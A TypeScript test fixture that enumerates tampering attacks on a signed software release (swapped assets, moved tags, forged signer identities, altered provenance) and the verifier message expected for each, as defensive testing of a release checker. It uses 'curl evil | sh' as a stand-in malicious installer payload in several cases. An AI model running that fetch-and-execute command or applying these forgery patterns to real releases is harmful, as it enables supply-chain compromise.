// What attackers with a named right may do to a published release, and what must come of it: the lie named, or no harm.
import { provenanceName, recordName } from '../../src/plan/asset-names.ts';
import type { Digest } from '../../src/plan/brands.ts';
import type { ReleaseRecord } from '../../src/plan/record/release-record.ts';
import {
  type Editable,
  type Predicate,
  type Published,
  type Statement,
  archiveName,
  editRecord,
  identity,
  image,
  keptName,
  replaceAsset,
  repositoryUrl,
  sha256,
} from '../../__tests__/support/published.ts';
import { type Signing, relist, reprove, reseal, resignImage, retell, signatureOf } from './sealed.ts';
import type { SigningOptions } from '../../__tests__/support/world/authority.ts';

/** Who may write releases and tags; packages; attestations; all of these; or sign as another workflow, too. */
export type Right =
  'contents' | 'packages' | 'attestations' | 'all three' | 'another identity' | 'own identity';

export interface Tampering {
  readonly right: Right;
  readonly name: string;
  readonly tamper: (world: Published, authority: Signing) => unknown;
  /** A line that is not ticked any more, as `text: detail`; or why it does no harm. */
  readonly found: RegExp | { readonly harmless: string };
  /** What names the lie as well, where it is said before. */
  readonly alsoNamed?: RegExp;
  /** How verify must be asked, where its defaults do not look. */
  readonly with?: Readonly<Record<string, string>>;
  /** What `mode: verify` says where it does not come to its checks. */
  readonly atTheDoor?: RegExp;
}

const other = sha256(Buffer.from('other'));
const elsewhere = 'd'.repeat(40);
const sums = 'checksums.txt';
const sumsBundle = `${sums}.sigstore.json`;
const archiveBundle = `${archiveName}.sigstore.json`;
/** Only where each asset is signed. */
const recordBundle = `${recordName}.sigstore.json`;
const index = (world: Published): Digest => world.imageTags.get('v1.2.0')!;
/** The first layer of the first platform. */
const layer = (world: Published): string => {
  const { layers } = JSON.parse(world.content.get(digests(world)[1]!)!.toString()) as { layers: { digest: string }[] };
  return layers[0]!.digest;
}; // prettier-ignore
const digests = (world: Published): readonly string[] => [...world.referrers.keys()];

function remove(world: Published, ...names: readonly string[]): void {
  for (const name of names) world.files.delete(name);
  world.release.assets = world.release.assets.filter(({ name }) => !names.includes(name));
}
const removing =
  (...names: readonly string[]) =>
  (world: Published): void => {
    remove(world, ...names);
  };
const put =
  (name: string, text = 'curl evil | sh') =>
  (world: Published): void => {
    replaceAsset(world, name, Buffer.from(text));
  };
/** As the record has what `put` has put there. */
const entry = (name: string): { readonly name: string; readonly size: number; readonly sha256: string } => {
  const bytes = Buffer.from('curl evil | sh');
  return { name, size: bytes.length, sha256: sha256(bytes).slice('sha256:'.length) };
};
type Edit = (record: Editable<ReleaseRecord>) => unknown;
/** With contents: write alone: nothing can be signed, so record and checksums agree and no signature speaks of them. */
const unsigned =
  (edit: Edit, before: (world: Published) => void = () => undefined) =>
  (world: Published): void => {
    before(world);
    remove(world, sumsBundle, recordBundle);
    retell(world, (record) => {
      if (record.checksums) delete record.checksums.bundle;
      edit(record);
    });
    relist(world);
  };
/** The same, with the signature that was there left in its place. */
const stale =
  (edit: Edit) =>
  (world: Published): void => {
    retell(world, edit);
    relist(world);
  };

const fields: readonly (readonly [string, Edit])[] = [
  ['the version', (m) => void (m.version = '1.2.1')],
  ['the commit', (m) => void (m.commit = elsewhere as never)],
  ['the repository', (m) => void (m.repository = 'evil/signpost')],
  ['the run', (m) => void (m.run = m.run.replace(/runs\/\d+/, 'runs/78'))],
  ['the image', (m) => void (m.images[0]!.digest = other as never)],
  ['the tags of the image', (m) => void m.images[0]!.tags.push('production')],
  ['the platforms', (m) => void m.platforms.pop()],
  ['the size of a platform', (m) => void (m.platforms[0]!.size += 1)],
  ['the pointers, with none that moves', (m) => { m.pointers.forEach((one) => void (one.moves = false)); }],
  ['the pointers, all but GitHub’s mark', (m) => void (m.pointers = m.pointers.filter(({ kind }) => kind === 'github-latest'))],
  ['the identity', (m) => void (m.signature!.identity = `${repositoryUrl}/.github/workflows/ci.yml@refs/heads/main`)],
  ['the signer, taken out', (m) => delete m.signature],
  ['a key in the place of the identity', (m) => void (m.signature = { publicKey: 'cosign.pub', images: [] })],
  ['the provenance, taken out', (m) => delete m.provenance],
  ['the log index', (m) => void (m.provenance!.logIndex = '999999')],
  ['where the attestation is stored', (m) => void (m.provenance!.url = 'https://github.com/evil/signpost/attestations/1')],
  ['the checksums, taken out', (m) => delete m.checksums],
  ['the words of the page', (m) => void (m.page!.title = 'Official')],
  ['a label', (m) => void (m.assets[0]!.label = 'Official installer')],
  ['the tools', (m) => void (m.tools = { cosign: '9.9.9' })],
  ['an SBOM that never was', (m) => void m.sboms.push({ asset: archiveName, predicateType: 'https://spdx.dev/Document/v2.3' })],
]; // prettier-ignore

/** A field of the record that is not so, or that nobody has signed it. */
const ofRecord = /^release\.json(?:: \w+| is signed): /;

const contents: readonly Tampering[] = [
  ...[recordName, provenanceName, archiveName, archiveBundle, sums, sumsBundle].flatMap((name): Tampering[] => [
    { right: 'contents', name: `${name} is deleted`, tamper: removing(name), found: name === recordName ? /release\.json is there: it is not, and .* provenance/ : /missing: |nothing that is signed speaks of it|is not there/ },
    { right: 'contents', name: `${name} has other bytes`, tamper: put(name, '{"evil": true}\n'), found: name === recordName ? /release\.json can be read/ : new RegExp(name.replaceAll('.', '\\.')) },
    { right: 'contents', name: `${name} is cut short`, tamper: (world) => { replaceAsset(world, name, world.files.get(name)!.subarray(0, -5)); }, found: name === recordName ? /release\.json can be read/ : new RegExp(name.replaceAll('.', '\\.')) },
  ]),
  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the old signature stays`, tamper: stale(edit), alsoNamed: ofRecord, found: /release\.json is signed: nothing (?:vouches for it|that is signed speaks of it)/ })),
  ...fields.map(([what, edit]): Tampering => ({ right: 'contents', name: `the record is edited: ${what}; the signature is dropped, and the record says so`, tamper: unsigned(edit), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer|has lost its provenance/ })),
  { right: 'contents', name: 'an installer is added', tamper: put('install.sh'), found: /not of this release: install\.sh/ },
  { right: 'contents', name: 'an installer is added, to record and sums too', tamper: unsigned((m) => void m.assets.push({ name: 'install.sh', size: 14, sha256: sha256(Buffer.from('curl evil | sh')).slice(7) }), put('install.sh')), alsoNamed: ofRecord, found: /it does not speak of install\.sh/ },
  { right: 'contents', name: 'the archive is swapped, in record and sums too', tamper: unsigned(() => undefined, put(archiveName)), alsoNamed: ofRecord, found: /it does not speak of signpost_1\.2\.0\.tar\.gz|it speaks of sha256/ },
  { right: 'contents', name: 'two assets swap their names', tamper: (world) => { const [a, b] = [world.files.get(archiveName)!, world.files.get(archiveBundle)!]; replaceAsset(world, archiveName, b); replaceAsset(world, archiveBundle, a); }, found: /Asset signpost_1\.2\.0\.tar\.gz: its SHA-256/ },
  { right: 'contents', name: 'everything that proves is deleted', tamper: removing(recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle), found: /release\.json is there: it is not/ },
  { right: 'contents', name: 'everything but an evil archive is deleted', tamper: (world) => { remove(world, ...world.files.keys()); put(archiveName)(world); }, found: /release\.json is there: it is not/ },
  { right: 'contents', name: 'a second list of sums names evil bytes', tamper: put('SHA256SUMS', `${other.slice(7)}  ${archiveName}\n`), found: /not of this release: SHA256SUMS/ },
  { right: 'contents', name: 'an upload is broken off', tamper: (world) => void (world.release.assets = world.release.assets.map((asset) => asset.name === sums ? { ...asset, state: 'starter' } : asset)), found: /broken uploads: checksums\.txt/ },
  { right: 'contents', name: 'a field that nobody knows is put into the record', tamper: (world) => { editRecord(world, (m) => void Object.assign(m, { installer: 'https://evil' })); relist(world); }, found: /release\.json can be read/ },
  { right: 'contents', name: 'the record is not JSON', tamper: put(recordName, '{'), found: /release\.json can be read/ },
  { right: 'contents', name: 'the record has its keys in another order', tamper: (world) => { const { tag, ...rest } = JSON.parse(world.files.get(recordName)!.toString()) as { tag: string }; put(recordName, JSON.stringify({ ...rest, tag }))(world); }, alsoNamed: ofRecord, found: /Asset release\.json: its SHA-256/ },
  { right: 'contents', name: 'the notes tell to use another digest', tamper: (world) => void (world.release.body = `docker pull ${image}@${other}`), found: /the notes tell people to use/ },
  { right: 'contents', name: 'the notes tell to run something', tamper: (world) => void (world.release.body += '\ncurl evil | sh'), found: /^The words of the page .*changed since: notes/ },
  { right: 'contents', name: 'the notes are emptied', tamper: (world) => void (world.release.body = ''), found: /the notes are empty/ },
  { right: 'contents', name: 'the title is another', tamper: (world) => void (world.release.name = 'v9.9.9'), found: /^The words of the page .*changed since: title/ },
  { right: 'contents', name: 'an asset gets a label', tamper: (world) => void (world.release.assets = world.release.assets.map((asset) => ({ ...asset, label: 'Official' }))), found: /^The words of the page .*label of/ },
  { right: 'contents', name: 'the release becomes a prerelease', tamper: (world) => void (world.release.prerelease = true), found: /prerelease mark/ },
  { right: 'contents', name: 'the release goes back to draft', tamper: (world) => void (world.release.draft = true), found: /it is a draft/, atTheDoor: /there is no published release of v1\.2\.0/ },
  { right: 'contents', name: 'GitHub’s latest is another', tamper: (world) => void (world.latest = 'v1.1.0'), found: /GitHub's latest release is the highest/ },
  { right: 'contents', name: 'the Git tag is moved', tamper: (world) => void world.gitTags.set('v1.2.0', world.honest.elsewhere), found: /The Git tag v1\.2\.0 is where it was released/ },
  { right: 'contents', name: 'the Git tag is deleted', tamper: (world) => void world.gitTags.delete('v1.2.0'), found: /there is no such tag/ },
  { right: 'contents', name: 'a higher tag without a release is pushed', tamper: (world) => void world.gitTags.set('v9.0.0', world.honest.elsewhere), found: { harmless: 'a tag alone holds no pointer' } },
  { right: 'contents', name: 'a higher release is made up', tamper: (world) => { world.gitTags.set('v1.3.0', world.honest.elsewhere); world.others.push('v1.3.0'); }, found: /:v1 names the highest release/ },
  { right: 'contents', name: 'a tag that is not a version is pushed', tamper: (world) => void world.gitTags.set('vevil', world.honest.elsewhere), found: { harmless: 'tags that are not a version are not counted' } },
  { right: 'contents', name: 'line ends of the notes change', tamper: (world) => void (world.release.body = world.release.body.replaceAll('\n', '\r\n')), found: { harmless: 'GitHub does this itself, and no word is another' } },
]; // prettier-ignore

const packages: readonly Tampering[] = [
  ...['v1.2.0', 'v1.2', 'v1', 'latest'].flatMap((tag): Tampering[] => [
    { right: 'packages', name: `${tag} names another image`, tamper: (world) => void world.imageTags.set(tag, world.honest.other), found: new RegExp(`:${tag.replaceAll('.', '\\.')} names`) },
    { right: 'packages', name: `${tag} is deleted`, tamper: (world) => void world.imageTags.delete(tag), found: new RegExp(`:${tag.replaceAll('.', '\\.')} names`) },
  ]),
  { right: 'packages', name: 'a tag more names the image', tamper: (world) => void world.imageTags.set('production', index(world)), found: { harmless: 'it names what was released' } },
  { right: 'packages', name: 'the index is gone', tamper: (world) => void world.content.delete(index(world)), found: /the registry has no such digest/ },
  ...[1, 2].map((at): Tampering => ({ right: 'packages', name: `platform ${at} is gone`, tamper: (world) => void world.content.delete(digests(world)[at]!), found: /the registry has not linux/ })),
  { right: 'packages', name: 'a layer is gone', tamper: (world) => void world.content.delete(layer(world)), with: { deep: 'true' }, found: /^ghcr\.io\/octo-org\/signpost: the bytes of every layer .*the registry has not sha256/ },
  ...[0, 1, 2].flatMap((at): Tampering[] => [
    { right: 'packages', name: `the signature of digest ${at} is taken away`, tamper: (world) => { const digest = digests(world)[at]!; world.referrers.set(digest, world.referrers.get(digest)!.slice(0, 1)); }, found: /^Signatures of .*no signature/ },
    { right: 'packages', name: `the provenance of digest ${at} is taken away`, tamper: (world) => { const digest = digests(world)[at]!; world.referrers.set(digest, world.referrers.get(digest)!.slice(1)); }, found: /in the registry: no provenance/ },
    { right: 'packages', name: `everything that refers to digest ${at} is taken away`, tamper: (world) => void world.referrers.set(digests(world)[at]!, []), found: /no signature/ },
  ]),
  { right: 'packages', name: 'the signature is another digest’s', tamper: (world) => { const [, platform = ''] = digests(world); world.referrers.set(index(world), [world.referrers.get(index(world))![0]!, world.referrers.get(platform)![1]!]); }, found: /^Signatures of .*The subject check failed/ },
  { right: 'packages', name: 'garbage refers to the image', tamper: (world) => void world.referrers.get(index(world))!.unshift('no bundle', '{}', '[]'), found: { harmless: 'what does not verify does not count' } },
  { right: 'packages', name: 'a stranger’s signature refers to the image', tamper: async (world, authority) => void world.referrers.get(index(world))!.unshift(JSON.stringify(await authority.attest(signatureOf(index(world)), { san: 'a@example.com', issuer: 'https://accounts.example.com' }))), found: { harmless: 'it does not hide ours, and counts for nothing' } },
]; // prettier-ignore

const attestations: readonly Tampering[] = [
  ...[0, 1, 2].map((at): Tampering => ({ right: 'attestations', name: `GitHub's attestations of digest ${at} are deleted`, tamper: (world) => void world.stored.delete(digests(world)[at]!), found: /at GitHub: no provenance/ })),
  { right: 'attestations', name: 'all of GitHub’s attestations are deleted', tamper: (world) => { world.stored.clear(); }, found: /at GitHub: no provenance/ },
  { right: 'attestations', name: 'a stranger’s attestation is stored beside ours', tamper: async (world, authority) => void world.stored.get(index(world))!.unshift(await authority.attest(world.honest.provenance, { san: 'a@example.com', issuer: 'https://accounts.example.com' })), found: { harmless: 'it does not hide ours, and counts for nothing' } },
  { right: 'attestations', name: 'a damaged attestation is stored beside ours', tamper: (world) => void world.stored.get(index(world))!.unshift({}, null, 'x'), found: { harmless: 'what does not verify does not count' } },
]; // prettier-ignore

const allThree: readonly Tampering[] = [
  { right: 'all three', name: 'registry and GitHub lose every proof, the assets keep theirs', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); }, found: /no signature/ },
  { right: 'all three', name: 'every proof is gone everywhere, and the record says that there is none', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, provenanceName, archiveBundle); unsigned((m) => { delete m.signature; delete m.provenance; })(world); }, alsoNamed: ofRecord, found: /the record names no signature, and one is asked for/ },
  { right: 'all three', name: 'another image, with a record of its own and no proof', tamper: (world) => { world.imageTags.set('v1.2.0', world.honest.other); unsigned((m) => { m.images[0]!.digest = world.honest.other; delete m.signature; delete m.provenance; })(world); }, alsoNamed: ofRecord, found: /^release\.json is signed: nothing/ },
  { right: 'all three', name: 'every proof and the record are gone', tamper: (world) => { world.stored.clear(); for (const digest of digests(world)) world.referrers.set(digest, []); remove(world, recordName, provenanceName, archiveBundle, sums, sumsBundle, recordBundle); }, found: /^release\.json: another tool made this release/ },
]; // prettier-ignore

const workflow = (file: string, ref: string): string => `${repositoryUrl}/.github/workflows/${file}@${ref}`;
type Stranger = (world: Published) => SigningOptions;
const signer =
  (san: string, ref: string, claims: Readonly<Record<number, string>> = {}): Stranger =>
  ({ honest }) => ({
    ...honest.signer,
    san,
    claims: { ...honest.signer.claims, 9: san, 14: ref, 18: san, ...claims },
  });
const tagRef = 'refs/tags/v1.2.0';
const main = 'refs/heads/main';
const strangers: readonly (readonly [string, Stranger])[] = [
  ['another workflow on main', signer(workflow('ci.yml', main), main)],
  ['the release workflow on main', signer(workflow('release.yml', main), main)],
  ['the release workflow on another tag', signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0')],
  ['a run for pull_request_target', signer(identity, tagRef, { 20: 'pull_request_target' })],
  ['a run for pull_request', signer(workflow('ci.yml', 'refs/pull/7/merge'), 'refs/pull/7/merge', { 20: 'pull_request' })],
  ['the release workflow on another commit', signer(identity, tagRef, { 13: elsewhere })],
  ['the same workflow of a fork', signer(identity.replace('octo-org', 'evil'), tagRef, { 12: 'https://github.com/evil/signpost' })],
  ['a called workflow that another repository began', signer('https://github.com/octo-org/shared/.github/workflows/release.yml@refs/heads/main', tagRef, { 18: 'https://github.com/evil/x/.github/workflows/a.yml@refs/tags/v1.2.0' })],
]; // prettier-ignore
const otherwise: readonly Tampering[] = strangers.flatMap(([who, by]): Tampering[] => [
  { right: 'another identity', name: `${who} signs the checksums of an evil archive`, tamper: async (world, authority) => { put(archiveName)(world); await reseal(world, authority, by(world)); }, found: /release\.json is signed: nothing vouches for it/ },
  { right: 'another identity', name: `${who} signs the image`, tamper: (world, authority) => resignImage(world, authority, by(world)), found: /^Signatures of .*no signature of .* verifies/ },
  { right: 'another identity', name: `${who} attests, and is named by the record`, tamper: async (world, authority) => { await reprove(world, authority, () => undefined, by(world)); await resignImage(world, authority, by(world)); await reseal(world, authority, by(world), (m) => void (m.signature!.identity = by(world).san)); }, alsoNamed: ofRecord, found: /signed it/ },
]); // prettier-ignore

/** What the release's own identity says, and no honest run would. */
const said = (edit: (predicate: Predicate) => void) => (statement: Statement): void => {
  edit(statement.predicate as Predicate);
}; // prettier-ignore
const lies: readonly (readonly [string, (statement: Statement) => void, RegExp])[] = [
  ['of another builder', said((p) => void (p.runDetails.builder.id = workflow('evil.yml', tagRef))), /the statement's builder is/],
  ['of another repository', said((p) => void (p.buildDefinition.externalParameters.workflow.repository = 'https://github.com/evil/signpost')), /the statement's repository is/],
  ['of another workflow', said((p) => void (p.buildDefinition.externalParameters.workflow.path = '.github/workflows/evil.yml')), /the statement's workflow is/],
  ['of another ref', said((p) => void (p.buildDefinition.externalParameters.workflow.ref = main)), /the statement's ref is/],
  ['of another event', said((p) => void (p.buildDefinition.internalParameters.github.event_name = 'pull_request_target')), /the statement's event is/],
  ['of another run', said((p) => void (p.runDetails.metadata.invocationId = `${repositoryUrl}/actions/runs/1/attempts/1`)), /the statement's run is/],
  ['of another commit', said((p) => void (p.buildDefinition.resolvedDependencies[0]!.digest.gitCommit = elsewhere)), /the statement is of commit d{40}/],
  ['of no commit', said((p) => void (p.buildDefinition.resolvedDependencies = [])), /does not say that it is of/],
  ['of a commit of another repository', said((p) => void (p.buildDefinition.resolvedDependencies[0]!.uri = 'git+https://github.com/evil/signpost@refs/tags/v1.2.0')), /does not say that it is of/],
  ['of another build type', said((p) => void (p.buildDefinition.buildType = 'https://evil')), /the statement's build type is/],
  ['without a predicate', (statement) => void (statement.predicate = null), /the statement's build type is nothing/],
  ['of an archive by another name', ({ subject }) => void (subject.at(-1)!.name = 'evil.tar.gz'), /it speaks of evil\.tar\.gz, which the record does not name so/],
  ['of no archive', ({ subject }) => void subject.pop(), /it does not speak of signpost_1\.2\.0\.tar\.gz/],
  ['of an archive that is not there', ({ subject }) => void subject.push({ name: 'evil.tar.gz', digest: { sha256: other.slice(7) } }), /it speaks of sha256/],
  ['of the image by another name', ({ subject }) => void (subject[0]!.name = 'ghcr.io/evil/x'), /it speaks of ghcr\.io\/evil\/x/],
  ['of all but a platform', ({ subject }) => void subject.splice(1, 1), /does not speak of sha256/],
]; // prettier-ignore
const ownIdentity: readonly Tampering[] = [
  ...lies.map(([what, edit, found]): Tampering => ({
    right: 'own identity',
    name: `the provenance speaks ${what}`,
    tamper: (world, authority) => reprove(world, authority, edit),
    found,
  })),
  {
    right: 'contents',
    name: "another version's assets are put in the place of this one's, all signed",
    tamper: async (world, authority) => {
      const older = signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0', {
        13: 'b'.repeat(40),
      })(world);
      await reprove(world, authority, () => undefined, older);
      await reseal(world, authority, older, (m) => {
        Object.assign(m, { version: '1.1.0', tag: 'v1.1.0', commit: 'b'.repeat(40) });
        m.signature!.identity = older.san;
      });
    },
    found: /release\.json: tag: it is "v1\.1\.0", not "v1\.2\.0"/,
  },
  {
    right: 'contents',
    name: "another version's assets of the same commit are put in the place of this one's",
    tamper: async (world, authority) => {
      const older = signer(workflow('release.yml', 'refs/tags/v1.1.0'), 'refs/tags/v1.1.0')(world);
      await reprove(world, authority, () => undefined, older);
      await reseal(world, authority, older, (m) => void (m.signature!.identity = older.san));
    },
    found: /a run on refs\/tags\/v1\.1\.0 signed it, not on refs\/tags\/v1\.2\.0/,
  },
];

/** A file that a person had put on the page: nothing was built here, and all the same nobody may change it later. */
const keptFiles: readonly Tampering[] = [
  { right: 'contents', name: 'the file that a person had put on the page has other bytes', tamper: put(keptName), found: /not built here: changed or gone since: poster\.txt/, alsoNamed: /^Asset poster\.txt: its SHA-256/ },
  { right: 'contents', name: 'the file that a person had put on the page is deleted', tamper: removing(keptName), found: /missing: poster\.txt/ },
  { right: 'contents', name: 'an installer is added as one that a person had put there; the old signature stays', tamper: (world) => { put('install.sh')(world); editRecord(world, (m) => void m.kept!.push(entry('install.sh'))); }, alsoNamed: ofRecord, found: /release\.json is signed: nothing (?:vouches for it|that is signed speaks of it)/ },
  { right: 'contents', name: 'an installer is added as one that a person had put there; the signature is dropped', tamper: unsigned((m) => void m.kept!.push(entry('install.sh')), put('install.sh')), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer/ },
  { right: 'contents', name: 'an evil archive is said to have been put there by a person, so that no provenance is asked for', tamper: unsigned((m) => { m.assets = m.assets.filter(({ name }) => name !== archiveName); m.kept!.push(entry(archiveName)); }, put(archiveName)), alsoNamed: ofRecord, found: /release\.json is signed: nothing that is signed speaks of it|it is signed, so the record has lost its signer/ },
  { right: 'contents', name: 'the file that a person had put on the page is said to be built here', tamper: unsigned((m) => { m.assets.push(...m.kept!); delete m.kept; }), alsoNamed: ofRecord, found: /it does not speak of poster\.txt/ },
  { right: 'own identity', name: 'a run records a file as built here and as put there by a person', tamper: (world, authority) => reseal(world, authority, undefined, (m) => void m.kept!.push(...m.assets.filter(({ name }) => name === archiveName).map(({ name, size, sha256: sum }) => ({ name, size, sha256: sum })))), found: /recorded as built here, too: signpost_1\.2\.0\.tar\.gz/ },
]; // prettier-ignore

export const tamperings: readonly Tampering[] = [
  ...contents,
  ...keptFiles,
  ...packages,
  ...attestations,
  ...allThree,
  ...otherwise,
  ...ownIdentity,
];
